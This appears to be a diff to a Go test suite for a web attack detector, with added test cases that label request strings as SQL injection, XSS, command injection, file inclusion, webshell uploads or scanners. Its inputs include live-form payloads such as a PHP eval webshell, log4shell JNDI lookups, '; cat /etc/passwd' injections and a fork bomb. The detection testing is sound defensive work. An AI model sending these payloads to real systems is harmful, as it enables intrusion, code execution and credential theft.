@@ -33,19 +33,50 @@ func TestAttackTypesByLevel(t *testing.T) {
 	}{
 		{"sqli/tautology", param("' OR '1'='1"), [3]string{"sqli", "sqli", "sqli"}, "params"},
 		{"sqli/union", param("-1 union select password from users"), [3]string{"sqli", "sqli", "sqli"}, "params"},
-		{"sqli/login bypass comment", param("admin' #"), [3]string{"", "sqli", "sqli"}, "params"},
+		{"sqli/login bypass comment", param("admin' #"), [3]string{"sqli", "sqli", "sqli"}, "params"},
 		{"sqli/subquery", param("1 and exists(select * from information_schema.tables)"), [3]string{"sqli", "sqli", "sqli"}, "params"},
 		{"sqli/double encoded", param("%2527%2520OR%25201%253D1--"), [3]string{"", "sqli", "sqli"}, "params"},
 		{"sqli/in path", &inspect.Request{Path: "/item/1' OR '1'='1"}, [3]string{"sqli", "sqli", "sqli"}, "url"},
 		{"xss/script tag", param("<script>alert(1)</script>"), [3]string{"xss", "xss", "xss"}, "params"},
 		{"xss/entity encoded", param("&lt;svg onload=alert(1)&gt;"), [3]string{"xss", "xss", "xss"}, "params"},
 		{"xss/full width %u", param("%uff1cscript%uff1ealert(1)%uff1c/script%uff1e"), [3]string{"xss", "xss", "xss"}, "params"},
-		{"xss/fromCharCode", param("';alert(String.fromCharCode(88))//"), [3]string{"", "xss", "xss"}, "params"},
+		{"xss/fromCharCode", param("';alert(String.fromCharCode(88))//"), [3]string{"xss", "xss", "xss"}, "params"},
 		{"xss/cookie", &inspect.Request{Cookies: []inspect.Pair{{Name: "c", Value: "<img src=x onerror=alert(1)>"}}}, [3]string{"xss", "xss", "xss"}, "cookie"},
 		{"cmdi/separator", param("127.0.0.1; cat /etc/passwd"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
 		{"cmdi/ifs", param("a${IFS}b"), [3]string{"", "cmdi", "cmdi"}, "params"},
-		{"cmdi/backticks", param("`id`"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"cmdi/backticks", param("`id`"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/windows for loop", param(`for /f "delims=" %i in ('whoami') do echo %i`), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/windows if comparison", param(`IF (2 GEQ 15) echo "bigger"`), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/windows if exist", param("IF NOT EXIST C:\\nonexistent CMD"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/windows if string comparison", param("if red==red echo test"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"clean/if in a sentence", param("if defined as a set of rules, call us"), [3]string{"", "", ""}, ""},
+		{"cmdi/fork bomb", param(".(){ .|.& };."), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/shell alias", param("alias a=c${KK}url&a google.com"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"clean/alias in a sentence", param("alias names = nicknames"), [3]string{"", "", ""}, ""},
+		{"cmdi/command line", param("ifconfig -a"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"cmdi/command line ending in a newline", param("nohup ifconfig\n"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"cmdi/perl necklace is no command line", param("perl necklace"), [3]string{"", "", ""}, "params"},
+		{"vuln/java gadget chain", param("ProcessBuilder.evil.invokertransformer"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/java class", param("java.io.ObjectInputStream"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/php variable function", param("$__['o'](5)"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"cmdi/multipart with bare LF lines", body("multipart/form-data; boundary=X", "--X\nContent-Disposition: form-data; name=\"host\"\n\n127.0.0.1; cat /etc/passwd\n--X--\n"), [3]string{"cmdi", "cmdi", "cmdi"}, "body"},
+		{"vuln/server-side include", param(`<!--#exec cmd="ls"-->`), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/ldap filter injection", param("*)(uid=*))(|(uid=*"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"cmdi/english after a separator", param("Photo; ID"), [3]string{"", "", ""}, "params"},
+		{"cmdi/lower-case word, separator and space before id (level 1 takes it for prose)", param("photo; id"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"cmdi/host name glued to id", param("google.com;id"), [3]string{"cmdi", "cmdi", "cmdi"}, "params"},
+		{"cmdi/and-and before id", param("x && id"), [3]string{"", "cmdi", "cmdi"}, "params"},
+		{"cmdi/quoted command", param(";w'h'o'am'i"), [3]string{"", "", "cmdi"}, "params"},
 		{"cmdi/pipe with flag", param("x | grep -v y"), [3]string{"", "", "cmdi"}, "params"},
+		{"vuln/node process", param("#{process.binding(foo).spawn(foo2)}"), [3]string{"", "vuln", "vuln"}, "params"},
+		{"vuln/prototype through brackets", &inspect.Request{Method: "GET", Path: "/", Params: []inspect.Pair{{Name: "a[constructor][prototype][onerror]", Value: "a"}}}, [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"clean/process word", param("the application process. Next step"), [3]string{"", "", ""}, ""},
+		{"vuln/javascript endless loop", param("while(!NaN)"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"clean/while in a sentence", param("call me while (in transit)"), [3]string{"", "", ""}, ""},
+		{"clean/loop that never runs", param("while(!true);"), [3]string{"", "", ""}, ""},
+		{"vuln/php short open tag", param("<? echo 'hello'; ?>"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/php superglobal", param("$_SERVER['test'];"), [3]string{"", "vuln", "vuln"}, "params"},
+		{"clean/xml body", body("application/xml", `<?xml version="1.0"?><a>1</a>`), [3]string{"", "", ""}, ""},
 		{"vuln/php system", param("system('id')"), [3]string{"vuln", "vuln", "vuln"}, "params"},
 		{"webshell/php one-liner", param("eval($_POST['x'])"), [3]string{"webshell", "webshell", "webshell"}, "params"},
 		{"vuln/log4shell header", header("User-Agent", "${jndi:ldap://203.0.113.9/a}"), [3]string{"vuln", "vuln", "vuln"}, "header"},
@@ -58,16 +89,36 @@ func TestAttackTypesByLevel(t *testing.T) {
 		{"lfi/traversal", param("../../../etc/passwd"), [3]string{"lfi", "lfi", "lfi"}, "params"},
 		{"lfi/wrapper", param("php://filter/resource=index.php"), [3]string{"lfi", "lfi", "lfi"}, "params"},
 		{"lfi/dot git", &inspect.Request{Path: "/.git/config"}, [3]string{"", "lfi", "lfi"}, "url"},
-		{"lfi/single parent", param("../config.php"), [3]string{"", "", "lfi"}, "params"},
+		{"lfi/assistant config directory", &inspect.Request{Path: "/.codex/config.toml"}, [3]string{"", "lfi", "lfi"}, "url"},
+		{"lfi/ignore file", &inspect.Request{Path: "/.cursorignore"}, [3]string{"", "lfi", "lfi"}, "url"},
+		{"lfi/error log", &inspect.Request{Path: "/wp-content/errors.log"}, [3]string{"", "lfi", "lfi"}, "url"},
+		{"clean/page named like a tool", &inspect.Request{Path: "/blog/codex-review"}, [3]string{"", "", ""}, ""},
+		{"lfi/single parent to a config file", param("../config.php"), [3]string{"", "lfi", "lfi"}, "params"},
+		{"lfi/overlong utf-8 slashes", param("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"), [3]string{"lfi", "lfi", "lfi"}, "params"},
+		{"lfi/single parent", param("../index.html"), [3]string{"", "", "lfi"}, "params"},
 		{"rfi/ip address", param("http://203.0.113.9/x"), [3]string{"rfi", "rfi", "rfi"}, "params"},
+		{"rfi/unbracketed ipv6", param("https://2001:41d0:701:1100::29c8/gecko.php"), [3]string{"rfi", "rfi", "rfi"}, "params"},
+		{"rfi/encoded slash before the user part", param("http://example.com%2f@evil.com/"), [3]string{"rfi", "rfi", "rfi"}, "params"},
+		{"rfi/include global as a parameter name", &inspect.Request{Method: "GET", Path: "/a.php", Params: []inspect.Pair{{Name: "mosConfig_absolute_path", Value: "https://foo.bar"}}}, [3]string{"rfi", "rfi", "rfi"}, "params"},
+		{"clean/time in a URL", param("https://example.com/watch?t=12:30"), [3]string{"", "", ""}, ""},
 		{"rfi/trailing question mark", param("https://evil.example/c99.txt?"), [3]string{"", "rfi", "rfi"}, "params"},
 		{"rfi/jsp", param("https://evil.example/a.jsp"), [3]string{"", "", "rfi"}, "params"},
 		{"robot/sqlmap", header("User-Agent", "sqlmap/1.7.2#stable"), [3]string{"robot", "robot", "robot"}, "header"},
+		{"vuln/exploit endpoint", &inspect.Request{Path: "/_ignition/execute-solution"}, [3]string{"vuln", "vuln", "vuln"}, "url"},
+		{"vuln/thinkphp without a leading backslash", param("index/think\\app/invokefunction"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/drupalgeddon2 element_parents", param("account/mail/#value"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/thinkcmf php tag", param("<php>die(@md5(HelloThinkCMF))</php>"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"clean/cgi-bin page", &inspect.Request{Path: "/cgi-bin/search.cgi"}, [3]string{"", "", ""}, ""},
+		{"robot/zap", header("User-Agent", "Mozilla/5.0 (compatible; ZAP)"), [3]string{"robot", "robot", "robot"}, "header"},
+		{"robot/feroxbuster", header("User-Agent", "feroxbuster/2.10.1"), [3]string{"robot", "robot", "robot"}, "header"},
+		{"webshell/htaccess upload", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\".htaccess\"\r\nContent-Type: image/png\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
+		{"webshell/php handler in an upload", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nAddType application/x-httpd-php .jpg\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
+		{"clean/upload named like a config", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"htaccess-notes.pdf\"\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"", "", ""}, ""},
 		{"robot/headless", header("User-Agent", "Mozilla/5.0 HeadlessChrome/120.0"), [3]string{"", "", "robot"}, "header"},
 		{"webshell/upload name", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"s.php\"\r\n\r\nhello\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
 		{"webshell/upload content", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\n\r\n<?php @eval($_POST['p']); ?>\r\n--XX--\r\n"), [3]string{"webshell", "webshell", "webshell"}, "body"},
 		{"form body", body("application/x-www-form-urlencoded", "a=1&q=1%27+OR+%271%27%3D%271"), [3]string{"sqli", "sqli", "sqli"}, "body"},
-		{"form body, spaces as plus", body("application/x-www-form-urlencoded", "q=1+union+select+password+from+users"), [3]string{"", "sqli", "sqli"}, "body"},
+		{"form body, spaces as plus", body("application/x-www-form-urlencoded", "q=1+union+select+password+from+users"), [3]string{"sqli", "sqli", "sqli"}, "body"},
 		{"json body", body("application/json", `{"a":{"b":["x","<script>alert(1)</script>"]}}`), [3]string{"xss", "xss", "xss"}, "body"},
 		{"multipart text field", body("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' OR 1=1--\r\n--XX--\r\n"), [3]string{"sqli", "sqli", "sqli"}, "body"},
 		{"raw query when no params", &inspect.Request{Path: "/", RawQuery: "a=b&q=%3Cscript%3Ealert(1)%3C/script%3E"}, [3]string{"xss", "xss", "xss"}, "params"},
@@ -205,7 +256,8 @@ func TestCleanRequestDoesNotAllocate(t *testing.T) {
 	}
 	in := mustCompile(t, levelConfig(2))
 	form := body("application/x-www-form-urlencoded", "name=Jane+Doe&email=jane%40example.com&city=Dublin&message=See+you+at+5pm%2C+thanks%21")
-	for _, r := range []*inspect.Request{cleanGET(), form} {
+	apostrophes := body("application/x-www-form-urlencoded", "name=Jane+O%27Neil&message=I%27d+like+to+see+Lyon%27s+old+town%2C+thanks")
+	for _, r := range []*inspect.Request{cleanGET(), form, apostrophes, cleanFormPOST()} {
 		if n := testing.AllocsPerRun(100, func() { in.Inspect(r) }); n != 0 {
 			t.Errorf("%s %s: %.1f allocations per clean request, want 0", r.Method, r.Path, n)
 		}
@@ -232,4 +284,16 @@ func TestConcurrentUse(t *testing.T) {
 		}()
 	}
 	wg.Wait()
+}
+
+// TestUploadNameInAHeader: with check_all_headers, a header whose value is
+// a PHP file name is a webshell upload; a header naming an image or
+// holding a URL to a PHP page is not.
+func TestUploadNameInAHeader(t *testing.T) {
+	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 1, CheckAllHeaders: true})
+	for value, want := range map[string]string{"a.php": "webshell", "photo. php": "webshell", "fda.php5...": "webshell", "photo.jpg": "", "https://example.com/index.php": ""} {
+		if v := in.Inspect(header("X-File-Name", value)); v.Attack != want {
+			t.Errorf("X-File-Name %q: %+v, want %q", value, v, want)
+		}
+	}
 }
